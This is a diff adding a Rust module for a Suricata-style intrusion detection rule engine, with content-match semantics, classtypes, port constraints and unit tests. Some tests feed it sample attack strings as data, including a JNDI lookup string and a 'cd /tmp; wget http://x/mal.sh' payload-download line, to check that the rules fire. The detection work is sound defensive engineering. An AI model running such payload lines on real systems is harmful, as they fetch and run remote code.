@@ -1,0 +1,325 @@
+//! Rule AST and byte-level matching semantics.
+//!
+//! The option subset mirrors what the paper's vetted Suricata rules use:
+//! sequenced `content` matches with `nocase`, absolute anchors
+//! (`offset` / `depth`) and relative anchors (`distance` / `within`), an
+//! optional `pcre`, destination port constraints, and a classtype.
+
+use crate::pcre::PcreLite;
+
+/// Transport/application protocol constraint of a rule.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RuleProtocol {
+    /// Any TCP payload.
+    Tcp,
+    /// Payloads that parse as HTTP (rule engine checks the request shape).
+    Http,
+}
+
+/// Suricata classtypes used by the vetted subset (§3.2).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum ClassType {
+    /// Malware / botnet command traffic.
+    TrojanActivity,
+    /// Web application exploit.
+    WebApplicationAttack,
+    /// Protocol abuse that alters service state.
+    ProtocolCommandDecode,
+    /// Attempt to gain user-level access.
+    AttemptedUser,
+    /// Attempt to gain admin-level access.
+    AttemptedAdmin,
+    /// Reconnaissance.
+    AttemptedRecon,
+    /// Anomalous, probably bad.
+    BadUnknown,
+    /// Miscellaneous suspicious activity.
+    MiscActivity,
+}
+
+impl ClassType {
+    /// Parse the Suricata classtype token.
+    pub fn from_token(s: &str) -> Option<ClassType> {
+        Some(match s {
+            "trojan-activity" => ClassType::TrojanActivity,
+            "web-application-attack" => ClassType::WebApplicationAttack,
+            "protocol-command-decode" => ClassType::ProtocolCommandDecode,
+            "attempted-user" => ClassType::AttemptedUser,
+            "attempted-admin" => ClassType::AttemptedAdmin,
+            "attempted-recon" => ClassType::AttemptedRecon,
+            "bad-unknown" => ClassType::BadUnknown,
+            "misc-activity" => ClassType::MiscActivity,
+            _ => return None,
+        })
+    }
+
+    /// The Suricata token for this classtype.
+    pub fn token(&self) -> &'static str {
+        match self {
+            ClassType::TrojanActivity => "trojan-activity",
+            ClassType::WebApplicationAttack => "web-application-attack",
+            ClassType::ProtocolCommandDecode => "protocol-command-decode",
+            ClassType::AttemptedUser => "attempted-user",
+            ClassType::AttemptedAdmin => "attempted-admin",
+            ClassType::AttemptedRecon => "attempted-recon",
+            ClassType::BadUnknown => "bad-unknown",
+            ClassType::MiscActivity => "misc-activity",
+        }
+    }
+
+    /// Does a hit of this classtype indicate authority bypass or state
+    /// alteration (the paper's maliciousness bar)? Recon alone does not.
+    pub fn is_malicious(&self) -> bool {
+        !matches!(self, ClassType::AttemptedRecon)
+    }
+}
+
+/// Destination-port constraint.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum PortSpec {
+    /// Any port.
+    Any,
+    /// A listed set of ports.
+    List(Vec<u16>),
+}
+
+impl PortSpec {
+    /// Does the spec admit `port`?
+    pub fn matches(&self, port: u16) -> bool {
+        match self {
+            PortSpec::Any => true,
+            PortSpec::List(ports) => ports.contains(&port),
+        }
+    }
+}
+
+/// One `content` option with its modifiers.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ContentMatch {
+    /// Bytes to find.
+    pub pattern: Vec<u8>,
+    /// Case-insensitive comparison.
+    pub nocase: bool,
+    /// Absolute: search starts at this offset.
+    pub offset: Option<usize>,
+    /// Absolute: match must start within the first `depth` bytes of the
+    /// search region.
+    pub depth: Option<usize>,
+    /// Relative: search starts `distance` bytes after the previous match.
+    pub distance: Option<usize>,
+    /// Relative: match must start within `within` bytes of the search start.
+    ///
+    /// Note: real Suricata bounds the match *end* relative to the previous
+    /// match's end; this engine bounds the match *start* relative to the
+    /// search start. The built-in ruleset is authored (and test-pinned)
+    /// against these semantics — port external rules with care.
+    pub within: Option<usize>,
+}
+
+impl ContentMatch {
+    /// A plain content match with no modifiers.
+    pub fn plain(pattern: &[u8]) -> Self {
+        ContentMatch {
+            pattern: pattern.to_vec(),
+            nocase: false,
+            offset: None,
+            depth: None,
+            distance: None,
+            within: None,
+        }
+    }
+
+    /// Search for this content in `payload` starting the scan at `cursor`
+    /// (the byte after the previous content's match). Returns the position
+    /// one past the end of the match.
+    fn find_from(&self, payload: &[u8], cursor: usize) -> Option<usize> {
+        // Determine the search window start.
+        let start = if self.distance.is_some() || self.within.is_some() {
+            cursor + self.distance.unwrap_or(0)
+        } else {
+            self.offset.unwrap_or(0)
+        };
+        if self.pattern.is_empty()
+            || payload.len() < self.pattern.len()
+            || start > payload.len() - self.pattern.len()
+        {
+            return None;
+        }
+        // Latest allowed match-start position.
+        let mut limit = payload.len().saturating_sub(self.pattern.len());
+        if let Some(d) = self.depth {
+            // depth counts bytes from the search start.
+            limit = limit.min((start + d).saturating_sub(self.pattern.len()));
+        }
+        if let Some(w) = self.within {
+            limit = limit.min((start + w).saturating_sub(self.pattern.len()));
+        }
+        let eq = |a: &[u8], b: &[u8]| {
+            if self.nocase {
+                a.eq_ignore_ascii_case(b)
+            } else {
+                a == b
+            }
+        };
+        (start..=limit)
+            .find(|&i| eq(&payload[i..i + self.pattern.len()], &self.pattern))
+            .map(|i| i + self.pattern.len())
+    }
+}
+
+/// A compiled detection rule.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Rule {
+    /// Protocol constraint.
+    pub protocol: RuleProtocol,
+    /// Destination ports.
+    pub dst_ports: PortSpec,
+    /// Human-readable message.
+    pub msg: String,
+    /// Rule id.
+    pub sid: u32,
+    /// Classtype.
+    pub classtype: ClassType,
+    /// Sequenced content matches.
+    pub contents: Vec<ContentMatch>,
+    /// Optional restricted-PCRE check (unanchored, over the whole payload).
+    pub pcre: Option<PcreLite>,
+}
+
+impl Rule {
+    /// Does this rule fire on `payload` arriving at `port`?
+    pub fn matches(&self, payload: &[u8], port: u16) -> bool {
+        if !self.dst_ports.matches(port) {
+            return false;
+        }
+        if self.protocol == RuleProtocol::Http && !cw_protocols::http::looks_like_http(payload) {
+            return false;
+        }
+        let mut cursor = 0usize;
+        for c in &self.contents {
+            match c.find_from(payload, cursor) {
+                Some(end) => cursor = end,
+                None => return false,
+            }
+        }
+        if let Some(p) = &self.pcre {
+            if !p.is_match(payload) {
+                return false;
+            }
+        }
+        true
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule_with(contents: Vec<ContentMatch>) -> Rule {
+        Rule {
+            protocol: RuleProtocol::Tcp,
+            dst_ports: PortSpec::Any,
+            msg: "test".into(),
+            sid: 1,
+            classtype: ClassType::MiscActivity,
+            contents,
+            pcre: None,
+        }
+    }
+
+    #[test]
+    fn plain_content() {
+        let r = rule_with(vec![ContentMatch::plain(b"jndi")]);
+        assert!(r.matches(b"${jndi:ldap://}", 80));
+        assert!(!r.matches(b"benign", 80));
+    }
+
+    #[test]
+    fn nocase_content() {
+        let mut c = ContentMatch::plain(b"jndi");
+        c.nocase = true;
+        let r = rule_with(vec![c]);
+        assert!(r.matches(b"${JNDI:ldap://}", 80));
+    }
+
+    #[test]
+    fn offset_and_depth_anchor_from_start() {
+        let mut c = ContentMatch::plain(b"GET");
+        c.offset = Some(0);
+        c.depth = Some(3);
+        let r = rule_with(vec![c]);
+        assert!(r.matches(b"GET / HTTP/1.1", 80));
+        assert!(!r.matches(b" GET / HTTP/1.1", 80)); // match would start at 1 > depth window
+    }
+
+    #[test]
+    fn sequenced_contents_with_distance_within() {
+        let c1 = ContentMatch::plain(b"POST");
+        let mut c2 = ContentMatch::plain(b"cmd=");
+        c2.distance = Some(0);
+        c2.within = Some(40);
+        let r = rule_with(vec![c1, c2]);
+        assert!(r.matches(b"POST /x HTTP/1.1\r\n\r\ncmd=reboot", 80));
+        // cmd= appears before POST → sequence fails.
+        assert!(!r.matches(b"cmd=reboot POST", 80));
+        // cmd= too far after POST for `within`.
+        let far = [b"POST ".to_vec(), vec![b'a'; 60], b"cmd=".to_vec()].concat();
+        assert!(!r.matches(&far, 80));
+    }
+
+    #[test]
+    fn port_constraint() {
+        let mut r = rule_with(vec![ContentMatch::plain(b"x")]);
+        r.dst_ports = PortSpec::List(vec![80, 8080]);
+        assert!(r.matches(b"x", 80));
+        assert!(!r.matches(b"x", 443));
+    }
+
+    #[test]
+    fn http_protocol_constraint() {
+        let mut r = rule_with(vec![ContentMatch::plain(b"evil")]);
+        r.protocol = RuleProtocol::Http;
+        assert!(r.matches(b"GET /evil HTTP/1.1\r\n\r\n", 80));
+        assert!(!r.matches(b"evil raw bytes", 80));
+    }
+
+    #[test]
+    fn pcre_gate() {
+        let mut r = rule_with(vec![ContentMatch::plain(b"wget")]);
+        r.pcre = Some(PcreLite::compile("/wget.*\\.sh/").unwrap());
+        assert!(r.matches(b"cd /tmp; wget http://x/mal.sh", 80));
+        assert!(!r.matches(b"wget something else", 80));
+    }
+
+    #[test]
+    fn classtype_tokens_round_trip() {
+        for t in [
+            "trojan-activity",
+            "web-application-attack",
+            "protocol-command-decode",
+            "attempted-user",
+            "attempted-admin",
+            "attempted-recon",
+            "bad-unknown",
+            "misc-activity",
+        ] {
+            let c = ClassType::from_token(t).unwrap();
+            assert_eq!(c.token(), t);
+        }
+        assert_eq!(ClassType::from_token("nonsense"), None);
+    }
+
+    #[test]
+    fn recon_is_not_malicious() {
+        assert!(!ClassType::AttemptedRecon.is_malicious());
+        assert!(ClassType::AttemptedAdmin.is_malicious());
+    }
+
+    #[test]
+    fn content_past_end_never_matches() {
+        let mut c = ContentMatch::plain(b"abc");
+        c.offset = Some(1000);
+        let r = rule_with(vec![c]);
+        assert!(!r.matches(b"abc", 80));
+    }
+}
